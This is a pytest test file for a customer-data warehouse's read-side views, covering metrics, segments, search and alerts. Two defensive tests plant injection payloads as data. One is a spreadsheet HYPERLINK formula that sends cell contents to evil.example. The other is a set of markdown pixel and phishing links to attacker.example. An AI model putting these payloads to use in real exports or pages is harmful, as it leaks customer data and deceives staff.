"""Read-side views of the warehouse, over a warehouse filled from a replayed simulation."""

from __future__ import annotations

import io
import math
import sqlite3
from collections.abc import Iterator
from pathlib import Path

import pandas as pd
import pytest

from pipeline import lineage
from pipeline import workbench_data as wd
from pipeline.catalog import load_catalog
from pipeline.errors import ProfileNotFoundError
from pipeline.scoring import ScoringParams, intent_stage, interaction_score, profile_from_dict
from pipeline.settings import Settings
from pipeline.simulate import SimulationConfig, default_end, simulate
from pipeline.stores.local import LocalWarehouse
from pipeline.testing import ReplayResult, make_event, replay

PARAMS = ScoringParams()


def store_replay(path: Path, result: ReplayResult) -> None:
    """Write what the stream would have written for ``result`` into the warehouse at ``path``."""
    with LocalWarehouse(path) as wh:
        wh.write_events(result.events)
        wh.write_profiles(result.profiles.values())
        wh.write_dead_letters([f.to_dict() for f in result.failures])
        wh.write_identity_links(
            [{k: v for k, v in link.items() if k != "kind"} for link in result.links]
        )


@pytest.fixture(scope="module")
def replayed(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[ReplayResult, Path]]:
    settings = Settings(_env_file=None)
    catalog = load_catalog(settings.catalog_path)
    sim = simulate(SimulationConfig(events=1500, seed=11, end=default_end()), catalog)
    result = replay([(m.key, m.value) for m in sim.messages], catalog=catalog, settings=settings)
    path = tmp_path_factory.mktemp("wb") / "warehouse.sqlite"
    store_replay(path, result)
    yield result, path


@pytest.fixture
def wh(replayed: tuple[ReplayResult, Path]) -> Iterator[LocalWarehouse]:
    handle = wd.open_warehouse(replayed[1])
    assert handle is not None
    yield handle
    handle.close()


@pytest.fixture
def result(replayed: tuple[ReplayResult, Path]) -> ReplayResult:
    return replayed[0]


def _known(result: ReplayResult) -> list[dict[str, object]]:
    return [
        p for p in result.profiles.values() if not p["is_anonymous"] and p["merged_into"] is None
    ]


def test_missing_or_empty_warehouse_has_no_data(tmp_path: Path) -> None:
    path = tmp_path / "warehouse.sqlite"
    assert wd.open_warehouse(path) is None
    assert not wd.has_data(None)
    LocalWarehouse(path).close()  # what `pipeline up` creates before any traffic
    empty = wd.open_warehouse(path)
    assert empty is not None and empty.read_only
    assert not wd.has_data(empty)
    assert wd.totals(empty)["last_stored_ms"] is None
    assert wd.throughput(empty, now_ms=wd.now_ms(), minutes=1)["in_per_s"].sum() == 0
    assert math.isnan(wd.latency_summary(empty, since_ms=0)["p50"])
    assert wd.latency_over_time(empty, now_ms=wd.now_ms()).empty
    assert wd.segment_members(empty, PARAMS, at_ms=wd.now_ms()).empty
    assert wd.segment_sizes(wd.segment_members(empty, PARAMS, at_ms=0))["customers"].sum() == 0
    assert wd.search_customers(empty, "").empty
    assert wd.dead_letters_by_reason(empty).empty


def test_totals_count_what_was_written(wh: LocalWarehouse, result: ReplayResult) -> None:
    totals = wd.totals(wh)
    assert wd.has_data(wh)
    assert totals["events"] == len({e["message_id"] for e in result.events})
    assert totals["dead_letters"] == len(result.failures) > 0
    assert totals["customers"] == len(_known(result))
    assert totals["events_merged"] == sum(1 for e in result.events if e["merged_from"])
    assert totals["last_stored_ms"] is not None


def test_throughput_counts_every_message_once(wh: LocalWarehouse) -> None:
    totals = wd.totals(wh)
    frame = wd.throughput(wh, now_ms=wd.now_ms() + 10_000, minutes=10)
    assert list(frame.columns) == ["time", "in_per_s", "out_per_s"]
    assert (
        frame["time"].is_monotonic_increasing
        and frame["time"].diff().dropna().eq(pd.Timedelta(seconds=1)).all()
    )
    assert frame["in_per_s"].sum() == totals["events"] + totals["dead_letters"]  # type: ignore[operator]
    assert frame["out_per_s"].sum() == totals["events"]
    assert wd.rates(wh, now_ms=wd.now_ms() + 3_600_000) == {"in_per_s": 0.0, "out_per_s": 0.0}


def test_latency_is_storage_minus_broker_time(tmp_path: Path) -> None:
    path = tmp_path / "warehouse.sqlite"
    now = wd.now_ms()
    with LocalWarehouse(path) as writer:
        writer.write_events(
            [
                make_event(ingested_ms=now - 1000 - i, customer_id=f"c{i}").to_dict()
                for i in range(10)
            ]
        )
    wh = wd.open_warehouse(path)
    assert wh is not None
    summary = wd.latency_summary(wh, since_ms=now - 60_000)
    assert summary["events"] == 10
    assert 1000 <= summary["p50"] <= summary["p95"] <= summary["p99"] < 60_000
    over_time = wd.latency_over_time(wh, now_ms=wd.now_ms(), minutes=1, bucket_s=5)
    assert over_time["events"].sum() == 10
    assert (over_time["p50"] >= 1000).all()


def test_step_latency_of_a_busy_window_reads_a_sample_and_estimates_the_count(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    now = wd.now_ms()
    wh = _traced_warehouse(tmp_path, now, [now - 400] * 1_000)
    monkeypatch.setattr(wd, "LATENCY_ROWS_MAX", 100)
    read: list[int] = []
    original = lineage.step_latency
    monkeypatch.setattr(
        lineage, "step_latency", lambda rows: read.append(len(rows)) or original(rows)
    )
    table = wd.step_latency(wh, since_ms=now - 60_000).set_index("step")
    assert read == [100]  # every tenth row
    assert (
        table.loc["dedupe + stitch", "n"] == 1_000 and table.loc["dedupe + stitch", "p50_ms"] == 90
    )
    wh.close()


def _traced_warehouse(tmp_path: Path, now: int, stitched_ms: list[int]) -> LocalWarehouse:
    """A warehouse of one event per ``stitched_ms``, each with its path through the steps."""
    with LocalWarehouse(tmp_path / "warehouse.sqlite") as writer:
        events = []
        for i, stitched in enumerate(stitched_ms):
            record = make_event(ingested_ms=now - 500, customer_id=f"c{i}").to_dict()
            record.update(parsed_ms=now - 490, stitched_ms=stitched, scored_ms=now - 300)
            events.append(record)
        writer.write_events(events)
    wh = wd.open_warehouse(tmp_path / "warehouse.sqlite")
    assert wh is not None
    return wh


def test_step_latency_reads_each_stored_events_path(tmp_path: Path) -> None:
    now = wd.now_ms()
    wh = _traced_warehouse(tmp_path, now, [now - 400 + 10 * i for i in range(4)])
    table = wd.step_latency(wh, since_ms=now - 60_000).set_index("step")
    assert table.loc["validate + enrich", "p50_ms"] == 10
    assert table.loc["dedupe + stitch", "p50_ms"] == 105  # 90, 100, 110, 120
    assert table.loc["dedupe + stitch", "n"] == 4
    assert table.loc["score + segments", "p50_ms"] == 85
    assert "collect" not in table.index  # produced straight to the broker


def test_dead_letters_by_reason_and_samples(wh: LocalWarehouse, result: ReplayResult) -> None:
    by_reason = wd.dead_letters_by_reason(wh)
    expected = pd.Series([f.reason for f in result.failures]).value_counts()
    assert dict(zip(by_reason["reason"], by_reason["dead_letters"], strict=True)) == dict(expected)
    reason = str(by_reason["reason"].iloc[0])
    samples = wd.dead_letter_samples(wh, reason=reason, limit=100, raw_chars=20)
    assert len(samples) == expected[reason]
    assert set(samples["reason"]) == {reason}
    assert samples["raw_text"].str.len().max() <= 20
    assert len(wd.dead_letter_samples(wh, limit=3)) == 3
    assert wd.dead_letters_by_reason(wh, since_ms=wd.now_ms() + 60_000).empty


def test_schema_versions_cover_every_event(wh: LocalWarehouse) -> None:
    versions = wd.schema_versions(wh)
    assert versions["events"].sum() == wd.totals(wh)["events"]
    assert set(versions["schema_version"]) == {1}
    assert {"track", "identify", "page"} <= set(versions["event_type"])


def test_segment_members_rescore_at_the_given_time(
    wh: LocalWarehouse, result: ReplayResult
) -> None:
    at = wd.now_ms()
    members = wd.segment_members(wh, PARAMS, at_ms=at)
    assert len(members) == len(_known(result))
    assert list(members.columns) == list(wd.MEMBER_COLUMNS)
    assert members["score"].is_monotonic_decreasing
    assert set(members["intent_stage"]) <= set(wd.STAGES)
    stored = _known(result)[0]
    as_of = wd.member_row(stored, PARAMS, int(stored["as_of_ms"]))  # type: ignore[call-overload]
    assert as_of["score"] == pytest.approx(stored["cis"])
    assert as_of["intent_stage"] == stored["intent_stage"]
    far = wd.segment_members(wh, PARAMS, at_ms=at + 365 * 86_400_000)
    assert set(far["intent_stage"]) == {"lapsed"}
    with_anon = wd.segment_members(wh, PARAMS, at_ms=at, include_anonymous=True)
    assert with_anon["is_anonymous"].any() and len(with_anon) > len(members)


@pytest.mark.parametrize("days_later", [0, 1, 10, 45, 400])
def test_a_members_score_and_stage_need_only_the_fields_the_index_keeps(
    result: ReplayResult, days_later: int
) -> None:
    """The index scores a profile of a few fields: the same score and stage as the whole."""
    for stored in result.profiles.values():
        profile = profile_from_dict(stored)
        at = int(stored["as_of_ms"] or 0) + days_later * 86_400_000
        row = wd.member_row(stored, PARAMS, at)
        full = interaction_score(profile, at, PARAMS)
        assert (row["score"], row["recency"], row["frequency"], row["monetary"]) == (
            full.score,
            full.recency,
            full.frequency,
            full.monetary,
        )
        assert row["intent_stage"] == intent_stage(profile, at, PARAMS)


def test_the_member_index_reads_only_what_changed_and_follows_merges_and_deletes(
    replayed: tuple[ReplayResult, Path], tmp_path: Path
) -> None:
    result, source = replayed
    path = tmp_path / "w.db"
    path.write_bytes(source.read_bytes())
    with sqlite3.connect(path) as conn:  # stored long ago, a minute apart
        conn.execute("UPDATE profiles SET stored_ms = rowid * 60000")
    conn.close()
    later = wd.now_ms() + 3 * 86_400_000
    with LocalWarehouse(path) as writer, LocalWarehouse(path, read_only=True) as reader:
        index = wd.MemberIndex()
        assert index.refresh(reader) == len(result.profiles)
        known = _known(result)
        changed, merged, gone = known[0], known[1], known[2]
        writer.write_profiles(
            [
                {**changed, "version": changed["version"] + 1, "order_count": 99},
                {**merged, "version": merged["version"] + 1, "merged_into": changed["customer_id"]},
                {**changed, "customer_id": "cus_new", "version": 1},
            ]
        )
        writer.delete_customer([str(gone["customer_id"])], [], str(gone["customer_id"]))
        # the three stored since, and the newest before them again (OVERLAP_MS): no more
        assert index.refresh(reader) == 3 + 1
        members = index.members(PARAMS, at_ms=later)
        expected = wd.segment_members(reader, PARAMS, at_ms=later)
        pd.testing.assert_frame_equal(members, expected)
        ids = set(members["customer_id"])
        assert "cus_new" in ids and {merged["customer_id"], gone["customer_id"]}.isdisjoint(ids)
        assert members.set_index("customer_id").loc[changed["customer_id"], "order_count"] == 99


def test_segment_sizes_filters_and_csv(wh: LocalWarehouse) -> None:
    members = wd.segment_members(wh, PARAMS, at_ms=wd.now_ms())
    sizes = wd.segment_sizes(members)
    assert list(sizes["intent_stage"]) == list(wd.STAGES)
    assert sizes["customers"].sum() == len(members)
    assert sizes["share"].sum() == pytest.approx(1.0)

    largest = sizes.sort_values("customers").iloc[-1]
    only = wd.filter_members(members, stages=[str(largest["intent_stage"])])
    assert len(only) == largest["customers"]
    high = wd.filter_members(members, min_score=50.0)
    assert (high["score"] >= 50.0).all()
    email = str(members["email"].dropna().iloc[0])
    found = wd.filter_members(members, text=email.upper())
    assert email in set(found["email"])
    category = str(members["top_category"].dropna().iloc[0])
    assert set(wd.filter_members(members, categories=[category])["top_category"]) == {category}
    assert wd.filter_members(members, text="no-such-customer-anywhere").empty

    back = pd.read_csv(io.BytesIO(wd.members_csv(members)))
    assert list(back.columns) == list(wd.MEMBER_COLUMNS)
    assert len(back) == len(members)


def test_the_csv_export_never_hands_a_spreadsheet_a_formula() -> None:
    """Names and e-mails come from visitors: ``=HYPERLINK(...)`` in a first name would run
    when a marketer opens the export in Excel or Sheets."""
    planted = pd.DataFrame(
        {
            "customer_id": ["cus_1", "+cus_2", "cus_3"],
            "name": ['=HYPERLINK("http://evil.example/?"&A1,"Click") Bob', "@SUM(1)", "Ann"],
            "email": ["-2+3@x.example", "\tb@x.example", "a@x.example"],
            "score": [-1.5, 2.0, 3.0],
        }
    )
    back = pd.read_csv(io.BytesIO(wd.members_csv(planted)), keep_default_na=False)
    cells = [str(v) for column in ("customer_id", "name", "email") for v in back[column]]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    assert back["name"][0] == "'" + planted["name"][0] and back["customer_id"][2] == "cus_3"
    assert list(back["score"]) == [-1.5, 2.0, 3.0]  # numbers stay numbers


def test_deep_links_encode_client_chosen_ids() -> None:
    link = wd.page_link("customer", customer="anna+news@example.com")
    assert link == "/customer?customer=anna%2Bnews%40example.com"
    link = wd.page_link("email", customer="acct#42&x=1", campaign="spring sale")
    assert link == "/email?customer=acct%2342%26x%3D1&campaign=spring%20sale"


def test_stage_history_ends_where_the_profiles_are(wh: LocalWarehouse) -> None:
    end = wd.now_ms()
    history = wd.stage_history(wh, PARAMS, end_ms=end, days=7)
    assert history.customers == history.customers_total > 0
    assert len(history.frame) == 7 * len(wd.STAGES)
    last = history.frame[history.frame["day_end"] == history.frame["day_end"].max()]
    now = wd.segment_sizes(wd.segment_members(wh, PARAMS, at_ms=end))
    assert last["customers"].sum() == now["customers"].sum()
    by_day = history.frame.groupby("day_end")["customers"].sum()
    assert by_day.is_monotonic_increasing  # customers only ever appear
    capped = wd.stage_history(wh, PARAMS, end_ms=end, days=2, max_events=100)
    assert capped.customers < capped.customers_total


def test_a_capped_stage_history_samples_customers_across_their_ids(tmp_path: Path) -> None:
    """Ids often follow sign-up order: the oldest customers (here lapsed) must not be all the
    history shows when it covers only some."""
    end = wd.now_ms()
    with LocalWarehouse(tmp_path / "w.db") as writer:
        writer.write_events(
            [
                make_event(
                    message_id=f"m{i}",
                    customer_id=f"cus_{i:04d}",
                    ts=end - (200 if i < 100 else 1) * 86_400_000,  # the first 100 long gone
                ).to_dict()
                for i in range(200)
            ]
        )
        history = wd.stage_history(writer, PARAMS, end_ms=end, days=1, max_events=100)
        again = wd.stage_history(writer, PARAMS, end_ms=end, days=1, max_events=100)
    assert (history.customers, history.customers_total) == (100, 200)
    stages = dict(zip(history.frame["intent_stage"], history.frame["customers"], strict=True))
    assert 25 <= stages["lapsed"] <= 75 and 25 <= stages["browsing"] <= 75
    pd.testing.assert_frame_equal(history.frame, again.frame)  # the same sample every time


def test_stage_history_counts_a_customer_whose_id_only_looks_anonymous(tmp_path: Path) -> None:
    """'Anon:Smith' is a customer's id (the reserved prefix is 'anon:', case and all)."""
    with LocalWarehouse(tmp_path / "w.db") as writer:
        writer.write_events(
            [
                make_event(message_id="m1", customer_id="Anon:Smith").to_dict(),
                make_event(message_id="m2", customer_id="anon:device-1").to_dict(),
            ]
        )
        history = wd.stage_history(writer, PARAMS, end_ms=wd.now_ms(), days=1)
    assert history.customers_total == 1


def test_search_by_id_email_and_anonymous_id(wh: LocalWarehouse, result: ReplayResult) -> None:
    top = wd.search_customers(wh, "", limit=5)
    assert len(top) == 5 and top["cis"].is_monotonic_decreasing
    assert not top["is_anonymous"].any()
    # with a clock, the list shows score and stage now, as the page beside it does
    later = wd.now_ms() + 60 * 86_400_000
    now = wd.search_customers(wh, "", limit=5, params=PARAMS, at_ms=later)
    assert now["cis"].is_monotonic_decreasing
    for row in now.to_dict("records"):
        expected = wd.member_row(wh.get_profile(row["customer_id"]), PARAMS, later)
        assert (row["cis"], row["intent_stage"]) == (expected["score"], expected["intent_stage"])
    assert set(now["intent_stage"]) != set(top["intent_stage"]) or not now["cis"].equals(top["cis"])

    customer = _known(result)[0]
    cid = str(customer["customer_id"])
    by_id = wd.search_customers(wh, cid[:-1])
    assert cid in set(by_id["customer_id"])
    assert by_id["customer_id"].str.startswith(cid[:-1]).all()

    emails = {str(p["customer_id"]): p["traits"].get("email") for p in _known(result)}  # type: ignore[attr-defined]
    with_email, email = next((c, e) for c, e in sorted(emails.items()) if e)
    by_email = wd.search_customers(wh, str(email).split("@")[0].upper())
    assert by_email["customer_id"].iloc[0] == with_email
    assert set(by_email["matched_by"]) == {"e-mail"}

    link = result.links[0]
    by_device = wd.search_customers(wh, str(link["anonymous_id"])[:8])
    assert link["customer_id"] in set(by_device["customer_id"])
    assert by_device["matched_by"].str.startswith("anonymous id").any()

    assert wd.search_customers(wh, "%").empty  # LIKE wildcards are literal
    assert wd.search_customers(wh, "_").empty


def test_customer_360(wh: LocalWarehouse, result: ReplayResult) -> None:
    with_devices = [p for p in _known(result) if p["anonymous_ids"]]
    stored = max(with_devices, key=lambda p: p["event_count"])  # type: ignore[arg-type,return-value]
    cid = str(stored["customer_id"])
    at = wd.now_ms()
    view = wd.customer_360(wh, cid, PARAMS, at_ms=at)
    assert view.customer_id == view.requested_id == cid
    assert view.profile["version"] == stored["version"]
    parts = wd.score_contributions(view.score, PARAMS)
    assert parts["points"].sum() == pytest.approx(view.score.score)
    assert 0 <= view.score.score <= 100
    assert view.category_affinity["share"].sum() == pytest.approx(1.0)
    assert view.event_counts["events"].sum() == stored["event_count"]
    stored_events = [e for e in result.events if e["customer_id"] == cid]
    assert len(view.timeline) == min(200, len({e["message_id"] for e in stored_events}))
    assert view.timeline["time"].is_monotonic_decreasing

    devices = set(stored["anonymous_ids"])  # type: ignore[call-overload]
    assert devices <= set(view.identities["anonymous_id"])
    linked = view.identities[view.identities["anonymous_id"].isin(devices)]
    assert linked["provenance"].str.contains("identity link").all()
    assert linked["provenance"].str.contains("profile merge").all()
    assert linked["via_message_id"].notna().all()

    nodes, edges = wd.identity_graph(view)
    assert nodes["kind"].iloc[0] == "customer"
    assert (nodes["kind"] == "device").sum() == len(view.identities)
    assert set(edges["source"]) | set(edges["target"]) <= set(nodes["id"])

    device = next(iter(devices))
    assert wd.customer_360(wh, device, PARAMS, at_ms=at).customer_id == cid
    assert wd.customer_360(wh, f"anon:{device}", PARAMS, at_ms=at).customer_id == cid
    with pytest.raises(ProfileNotFoundError, match="nobody-at-all"):
        wd.customer_360(wh, "nobody-at-all", PARAMS, at_ms=at)
    # a visitor who never signed in, by the raw anonymous id a link or a search shows
    anonymous = next(
        p for p in result.profiles.values() if p["is_anonymous"] and p["merged_into"] is None
    )
    raw = str(anonymous["customer_id"]).removeprefix("anon:")
    view = wd.customer_360(wh, raw, PARAMS, at_ms=at)
    assert (view.customer_id, view.requested_id) == (anonymous["customer_id"], raw)


def test_reads_while_a_writer_commits(tmp_path: Path) -> None:
    path = tmp_path / "warehouse.sqlite"
    with LocalWarehouse(path) as writer:
        reader = wd.open_warehouse(path)
        assert reader is not None
        before = wd.totals(reader)["events"]
        writer.write_events([make_event(ingested_ms=wd.now_ms()).to_dict()])
        assert wd.totals(reader)["events"] == before + 1  # type: ignore[operator]
        reader.close()


def test_open_alerts_newest_per_kind_and_subject_relative_to_data_time(tmp_path: Path) -> None:
    import sqlite3

    from pipeline.anomaly import Alert, alert_record

    minute = 60_000
    t = 1_800_000_000_000
    raised = [
        Alert("volume_spike", "page/web", 50, 5, "warning", t - 50 * minute),  # closed
        Alert("volume_spike", "page/web", 90, 5, "critical", t - 20 * minute),
        Alert("volume_spike", "page/web", 60, 5, "warning", t - 10 * minute),
        Alert("bot_identity", "bot-1", 61, 60, "warning", t - 5 * minute),
        Alert("clock_skew", "kiosk", 7.2e6, 3e5, "critical", t - 25 * minute),
    ]
    path = tmp_path / "w.sqlite"
    with LocalWarehouse(path) as writer:
        writer.write_alerts([alert_record(a, partition=1) for a in raised])
        writer.write_alerts([alert_record(a, partition=2) for a in raised])  # a replay: no rows
        assert writer.scalar("SELECT COUNT(*) FROM alerts") == len(raised)
        assert set(writer.query("SELECT source_partition FROM alerts")["source_partition"]) == {1}
        writer.write_events([make_event(ts=t - minute).to_dict()])
    wh = wd.open_warehouse(path)
    assert wh is not None
    # "now" is the newest broker time in the data (the event's), not the wall clock
    assert wd.data_time_ms(wh) == t - minute
    frame = wd.open_alerts(wh)
    assert list(frame.columns) == list(wd.ALERT_COLUMNS)
    assert list(zip(frame["kind"], frame["subject"], frame["observed"], strict=True)) == [
        ("clock_skew", "kiosk", 7.2e6),  # critical first
        ("bot_identity", "bot-1", 61),
        ("volume_spike", "page/web", 60),  # the newest of three, two of them in the window
    ]
    assert list(frame["alerts"]) == [1, 1, 2]
    assert list(wd.open_alerts(wh, window_ms=8 * minute)["subject"]) == ["bot-1"]
    assert wd.open_alerts(wh, as_of_ms=t + 60 * minute).empty
    assert len(wd.open_alerts(wh, as_of_ms=t - 45 * minute)) == 1
    wh.close()

    old = tmp_path / "old.sqlite"  # a warehouse written before the alerts table existed
    with LocalWarehouse(old) as writer:
        writer.write_events([make_event(ts=t).to_dict()])
    with sqlite3.connect(old) as conn:
        conn.execute("DROP TABLE alerts")
    handle = wd.open_warehouse(old)
    assert handle is not None
    assert wd.open_alerts(handle).empty
    handle.close()


def test_totals_of_a_store_older_than_some_tables(tmp_path: Path) -> None:
    """A store written before segment changes and triggers existed, opened read-only (the
    workbench never migrates): its totals count those tables as empty instead of failing."""
    import sqlite3

    path = tmp_path / "warehouse.sqlite"
    with LocalWarehouse(path) as writer:
        writer.write_events([make_event(ingested_ms=wd.now_ms()).to_dict()])
    with sqlite3.connect(path) as conn:
        conn.execute("DROP TABLE segment_changes")
        conn.execute("DROP TABLE email_triggers")
    reader = wd.open_warehouse(path)
    assert reader is not None
    totals = wd.totals(reader)
    assert (totals["events"], totals["segment_changes"], totals["email_triggers"]) == (1, 0, 0)
    reader.close()


def test_live_latency_reads_an_even_sample_of_a_busy_window(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A busy window is millions of rows: past LATENCY_ROWS_MAX the Live page reads every
    k-th, with percentiles close to the full ones and the events counted exactly. One write
    stores all 4,000 (a backlog's large batch, one stored_ms): the sample still has its
    share of them."""
    now = wd.now_ms()
    path = tmp_path / "warehouse.sqlite"
    with LocalWarehouse(path) as writer:
        writer.write_events(
            [make_event(ingested_ms=now - 60_000 + i).to_dict() for i in range(4_000)]
        )
    reader = wd.open_warehouse(path)
    assert reader is not None
    full = wd.latency_summary(reader, since_ms=now - 3_600_000)
    monkeypatch.setattr(wd, "LATENCY_ROWS_MAX", 500)
    sampled = wd.latency_summary(reader, since_ms=now - 3_600_000)
    rows, step, n = wd._latencies(reader, now - 3_600_000)
    assert (step, n, len(rows)) == (8, 4_000, 500)
    assert full["events"] == sampled["events"] == 4_000
    for q in ("p50", "p95", "p99"):
        assert sampled[q] == pytest.approx(full[q], rel=0.1), q
    chart = wd.latency_over_time(reader, now_ms=now + 2_000, minutes=60)
    assert chart["events"].sum() == len(rows) * step
    reader.close()


@pytest.mark.parametrize(
    "text",
    [
        "![pixel](https://attacker.example/p.png?who=marketer) Ann",
        "[Re-login](https://attacker.example/login) *now* `x` <b>y</b> $E=mc^2$ :red[z]",
        "# Ann_Lee \\ | ~~",
    ],
)
def test_visitors_text_is_shown_as_written_not_as_markdown(text: str) -> None:
    """Names and subjects come from visitors: rendered as CommonMark (as Streamlit's headers
    are), the escaped text is the text itself, with no image, link or emphasis."""
    import html

    from markdown_it import MarkdownIt

    rendered = MarkdownIt("commonmark").renderInline(wd.plain(text))
    assert "<img" not in rendered and "<a " not in rendered and "<em>" not in rendered
    assert html.unescape(rendered) == text
